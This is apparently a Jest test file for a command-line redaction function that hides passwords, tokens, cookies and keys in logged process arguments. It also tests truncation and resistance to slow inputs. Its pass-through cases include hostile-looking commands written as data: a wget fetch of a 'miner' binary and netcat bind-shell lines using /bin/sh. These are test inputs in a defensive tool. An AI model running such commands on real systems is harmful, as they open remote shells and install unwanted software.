import { redactCommandLine } from '../../../agent/processes/redact';

describe('redactCommandLine', () => {
  it.each<[string, readonly string[], string]>([
    ['the value after --password', ['app', '--password', 'hunter2', 'x'], 'app --password *** x'],
    ['the value of --password=', ['app', '--password=hunter2'], 'app --password=***'],
    ['the value after --token', ['app', '--token', 'abc'], 'app --token ***'],
    ['the value after --secret', ['app', '--secret', 'abc'], 'app --secret ***'],
    ['the value after --api-key', ['app', '--api-key', 'abc'], 'app --api-key ***'],
    ['the value after --db-password', ['app', '--db-password', 'abc'], 'app --db-password ***'],
    ['the value after -p', ['sshpass', '-p', 'hunter2', 'ssh'], 'sshpass -p *** ssh'],
    ['the value joined to -p', ['mysql', '-phunter2'], 'mysql -p***'],
    ['a password of digits', ['sshpass', '-p', '12345', 'ssh', 'host'], 'sshpass -p *** ssh host'],
    ['a password of digits joined to -p', ['mysqldump', '-p12345'], 'mysqldump -p***'],
    ['a password of digits after -P', ['unzip', '-P', '12345', 'x.zip'], 'unzip -P *** x.zip'],
    [
      'a password of digits inside one argument',
      ['sh', '-c', 'sshpass -p 12345 ssh h'],
      'sh -c sshpass -p *** ssh h',
    ],
    ['more digits than a port has', ['app', '-p', '1234567'], 'app -p ***'],
    ['a value that spans lines', ['mysql', '-pa\nb'], 'mysql -p***'],
    ['the password of -u', ['curl', '-u', 'pi:hunter2'], 'curl -u pi:***'],
    ['an assignment', ['env', 'KEY=abc', 'MODE=1'], 'env KEY=*** MODE=1'],
    [
      'a longer assignment',
      ['env', 'DB_PASSWORD=abc', 'AWS_SECRET_ACCESS_KEY=abc'],
      'env DB_PASSWORD=*** AWS_SECRET_ACCESS_KEY=***',
    ],
    ['a name in camel case', ['app', 'dbPassword=abc'], 'app dbPassword=***'],
    ['the user info of a URL', ['git', 'clone', 'https://me:hunter2@host/x'], 'git clone https://***@host/x'],
    ['a token alone in a URL', ['git', 'clone', 'https://ghtoken@host/x'], 'git clone https://***@host/x'],
    ['a secret in a query', ['curl', 'https://h/x?a=1&token=abc&b=2'], 'curl https://h/x?a=1&token=***&b=2'],
    ['a header', ['curl', '-H', 'Authorization: Bearer abc.def'], 'curl -H Authorization: ***'],
    ['a cookie', ['curl', '-H', 'Cookie: sid=abc'], 'curl -H Cookie: ***'],
    ['a JSON web token', ['app', 'eyJhbGciOiJIUzI1.eyJzdWIiOiIxMjM0.sig'], 'app ***'],
    ['an access key', ['app', 'AKIAIOSFODNN7EXAMPLE'], 'app ***'],
    [
      'a command line in one argument',
      ['sh', '-c', 'mysql -u root -p hunter2; x --token abc'],
      'sh -c mysql -u root -p *** x --token ***',
    ],
    ['a quoted value in one argument', ['sh', '-c', 'x --password "a b" y'], 'sh -c x --password *** y'],
  ])('hides %s', (_what, args, shown) => {
    expect(redactCommandLine(args)).toBe(shown);
  });

  it.each<[readonly string[]]>([
    [['sleep', '5']],
    [['find', '/', '-path', '/x', '-print']],
    [['/bin/sh', '-c', 'wget http://198.51.100.7/miner; chmod +x miner']],
    [['ssh', '-i', 'id', 'root@host']],
    [['nc', '-l', '-p', '39999']],
    [['nc', '-lp', '39999', '-e', '/bin/sh']],
    [['nc', '-l', '-p39999']],
    [['ssh', '-p', '2222', 'root@host']],
    [['scp', '-P', '2222', 'a', 'host:b']],
    [['nmap', '-p', '22,80,8000-9000', '10.0.0.0/8']],
    [['docker', 'run', '-p', '127.0.0.1:8080:80', 'x']],
    [['sh', '-c', 'rm /tmp/f; nc -l -p 39999 0</tmp/f | /bin/sh >/tmp/f']],
    [[]],
  ])('leaves %j as it is', (args) => {
    expect(redactCommandLine(args)).toBe(args.join(' '));
  });

  it('cuts at 1,024 characters', () => {
    const shown = redactCommandLine(['app', 'x'.repeat(1010), `--password=${'hunter2'.repeat(600)}`, 'y']);

    expect(shown).toBe(`app ${'x'.repeat(1010)} --passwo…`);
  });

  it('shows no part of a secret that crosses the cut', () => {
    const shown = redactCommandLine([`${'x '.repeat(500)}--password ${'hunter2'.repeat(600)}`]);

    expect(shown).toBe(`${'x '.repeat(500)}--password ***`);
  });

  it('never cuts a character in two', () => {
    const shown = redactCommandLine(['😀'.repeat(2000)]);

    expect(shown.length).toBeLessThanOrEqual(1024);
    expect(Buffer.from(shown, 'utf8').toString('utf8')).toBe(shown);
    expect(shown).not.toContain('\ufffd');
  });

  it.each([
    ['a_'.repeat(2048)],
    ['-'.repeat(4096)],
    [' key'.repeat(1024)],
    ['x://@'.repeat(800)],
    ['passwordpassword'.repeat(256)],
  ])('returns soon for an argument made to keep it busy (%#)', (arg) => {
    expect(redactCommandLine([arg]).length).toBeLessThanOrEqual(1024);
  });
});
